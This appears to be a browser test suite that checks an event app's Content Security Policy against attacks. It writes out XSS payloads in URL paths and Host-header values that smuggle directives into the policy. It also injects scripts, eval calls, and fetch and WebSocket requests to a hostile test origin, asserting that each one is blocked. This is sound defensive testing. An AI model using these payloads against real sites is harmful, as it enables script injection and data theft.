/** Attacks on a page: foreign frames, slipped-in scripts, addresses that are read out loud. */
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from 'vitest';
import { OtherOrigin } from './support/other-origin.ts';
import { Phone } from './support/phone.ts';
import { Presenter } from './support/presenter.ts';
import { pagesOf, raw } from './support/raw.ts';
import { Venue } from './support/venue.ts';

const PRODUCT = { name: 'Seat', capacity: 50, unitPrice: 10 };

let venue: Venue;
let presenter: Presenter;
let phone: Phone;
let hostile: OtherOrigin;

beforeAll(async () => {
  venue = await Venue.open(inject('host'));
  hostile = await OtherOrigin.beside(venue.url);
  presenter = await Presenter.opens(venue, inject('host').debugToken, [PRODUCT]);
  phone = new Phone(await venue.page(await venue.phone(), 'phone'));
  await phone.joinsByLink(presenter.code);
});
afterEach(() => expect(venue.complaints(), 'what pages complained of').toEqual([]));
afterAll(async () => {
  await venue.close();
  hostile.close();
});

/** Directives of a policy, by name. */
function directives(policy: string | null): Map<string, string[]> {
  const parts = (policy ?? '').split(';').map((part) => part.trim().split(/\s+/));
  return new Map(parts.map(([name = '', ...values]) => [name, values]));
}

describe('a page', () => {
  it('runs no script but its own: a fresh nonce each time, nothing inline without it, nothing evaluated', async () => {
    const { url } = inject('host');
    for (const path of pagesOf(presenter.code)) {
      const nonces = new Set<string>();
      for (let time = 0; time < 2; time++) {
        const answer = await fetch(`${url}${path}`);
        const policy = directives(answer.headers.get('content-security-policy'));
        const html = await answer.text();
        const scripts = policy.get('script-src') ?? [];
        const nonce = /^'nonce-([^']{16,})'$/.exec(
          scripts.find((value) => value.startsWith("'nonce")) ?? '',
        )?.[1];
        expect(scripts.filter((value) => /unsafe|\*|^https?:$|data:|blob:/.test(value))).toEqual([]);
        nonces.add(nonce ?? '');
        const tags = html.match(/<script\b[^>]*>/g) ?? [];
        expect(tags.length, path).toBeGreaterThan(0);
        for (const tag of tags) {
          if (!/\ssrc=/.test(tag)) expect(tag).toContain(`nonce="${nonce}"`);
        }
        expect(html).not.toMatch(/<[^>]+\son[a-z]+\s*=/);
        expect(html).not.toMatch(/["'=]\s*javascript:/i);
        expect(html).not.toMatch(/\b(src|href)="(https?:)?\/\//);
      }
      expect(nonces.size, `${path}: nonces are used once`).toBe(2);
      expect(nonces).not.toContain('');
    }
  });

  it('talks to its own host only, and names its sockets', async () => {
    const { url, port } = inject('host');
    for (const path of pagesOf(presenter.code)) {
      const policy = directives((await fetch(`${url}${path}`)).headers.get('content-security-policy'));
      expect(policy.get('connect-src')).toEqual(["'self'", `ws://127.0.0.1:${port}`]);
      expect(policy.get('default-src')).toEqual(["'self'"]);
      expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
      expect(policy.get('base-uri')).toEqual(["'none'"]);
      expect(policy.get('object-src')).toEqual(["'none'"]);
      expect(policy.get('form-action')).toEqual(["'self'"]);
    }
    const elsewhere = await raw('/', { host: 'show.example:8443' });
    const policy = directives(String(elsewhere.headers['content-security-policy']));
    expect(policy.get('connect-src')).toEqual(["'self'", 'ws://show.example:8443']);
  });

  it('is the same after an attack on its policy by the Host header', async () => {
    for (const host of ["x';script-src *", 'x;script-src', "a' 'unsafe-inline"]) {
      const { status, headers } = await raw('/', { host });
      const policy = directives(String(headers['content-security-policy'] ?? ''));
      if (status === 200) expect(policy.get('script-src')?.join(' ')).toMatch(/'nonce-/);
      expect(policy.get('connect-src')?.join(' ') ?? '').not.toContain('unsafe');
    }
  });

  it('stands in no frame of another page', async () => {
    const page = await presenter.context.newPage();
    await page.goto(hostile.url);
    for (const path of pagesOf(presenter.code)) {
      await page.setContent(`<iframe src="${venue.url}${path}"></iframe>`);
      const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
      await frame?.waitForLoadState('load').catch(() => undefined);
      await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/);
    }
    await page.close();
  });

  it('shows what stands in its address as text', async () => {
    const page = await venue.page(await venue.phone(), 'stranger');
    let dialogs = 0;
    page.on('dialog', (dialog) => {
      dialogs += 1;
      void dialog.dismiss();
    });
    const attack = '<img src=x onerror=alert(1)></script><script>alert(2)</script>';
    for (const folder of ['j', 'stage', 'control']) {
      const path = `/${folder}/${encodeURIComponent(attack)}`;
      const { body } = await raw(path);
      expect(body).not.toContain('<img src=x');
      expect(body).not.toContain('<script>alert');
      await page.goto(path);
      expect(await page.locator('img[src="x"]').count()).toBe(0);
    }
    expect(dialogs).toBe(0);
    await page.context().close();
  });
});

// Last: from here on the pages are made to complain of their policy.
describe('what was slipped into a page', () => {
  it.each(['control', 'stage', 'phone', 'door'] as const)(
    'does not run and reaches nobody, in a real browser: %s',
    async (who) => {
      venue.expects(/content security policy|Content Security Policy|violates the following/i);
      venue.expects(new RegExp(`asked (http|ws)://${new URL(hostile.url).host}/`));
      hostile.stolen.length = 0;
      const { escaped, refused } = await slipIn(await pageOf(who));
      expect(escaped).toEqual([]);
      expect(hostile.stolen, 'what arrived at the other origin').toEqual([]);
      expect(refused).toEqual([
        'connect-src fetched',
        'connect-src socket',
        'script-src eval',
        'script-src-attr inline',
        'script-src-elem inline',
        'script-src-elem remote.js',
      ]);
    },
  );
});

async function pageOf(who: 'control' | 'stage' | 'phone' | 'door'): Promise<Page> {
  if (who === 'control' || who === 'stage') return presenter[who];
  if (who === 'phone') return phone.page;
  const door = await venue.page(await venue.phone(), 'door');
  await door.goto('/');
  return door;
}

/** Puts scripts and requests into a page in six ways: which of them did something, and what the browser refused. */
function slipIn(page: Page): Promise<{ escaped: string[]; refused: string[] }> {
  return page.evaluate(async (elsewhere) => {
    const escaped: string[] = [];
    const refused = new Set<string>();
    const all = new Promise<void>((resolve) => {
      const giveUp = setTimeout(resolve, 15_000);
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
        refused.add(`${effectiveDirective} ${blockedURI.split('/').at(-1)}`);
        if (refused.size < 6) return;
        clearTimeout(giveUp);
        resolve();
      });
    });
    Object.assign(window, { escaped: (how: string) => escaped.push(how) });
    const inline = document.createElement('script');
    inline.textContent = 'window.escaped("inline script")';
    const handler = document.createElement('div');
    handler.innerHTML = '<img src="data:," onerror="window.escaped(\'handler\')">';
    const remote = document.createElement('script');
    remote.src = `${elsewhere}/remote.js`;
    document.body.append(inline, handler, remote);
    // In a task of its own: what a test runs in a page directly is allowed to evaluate.
    setTimeout(() => {
      // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the attack itself
      new Function('window.escaped("evaluated")')();
    });
    await fetch(`${elsewhere}/fetched`, { mode: 'no-cors' }).then(
      () => escaped.push('fetch'),
      () => undefined,
    );
    try {
      new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`).onopen = () => escaped.push('socket');
    } catch {
      // Refused, as it should be.
    }
    await all;
    for (const slipped of [inline, handler, remote]) slipped.remove();
    return { escaped, refused: [...refused].sort() };
  }, hostile.url);
}
